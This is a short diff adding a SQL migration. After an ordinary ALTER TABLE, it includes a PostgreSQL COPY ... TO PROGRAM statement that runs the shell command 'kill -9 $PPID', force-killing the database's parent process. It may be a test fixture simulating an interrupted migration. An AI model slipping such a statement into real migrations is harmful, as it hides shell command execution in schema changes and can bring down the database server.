@@ -1,0 +1,2 @@
+ALTER TABLE users ADD COLUMN c int;
+COPY (SELECT 1) TO PROGRAM 'kill -9 $PPID';
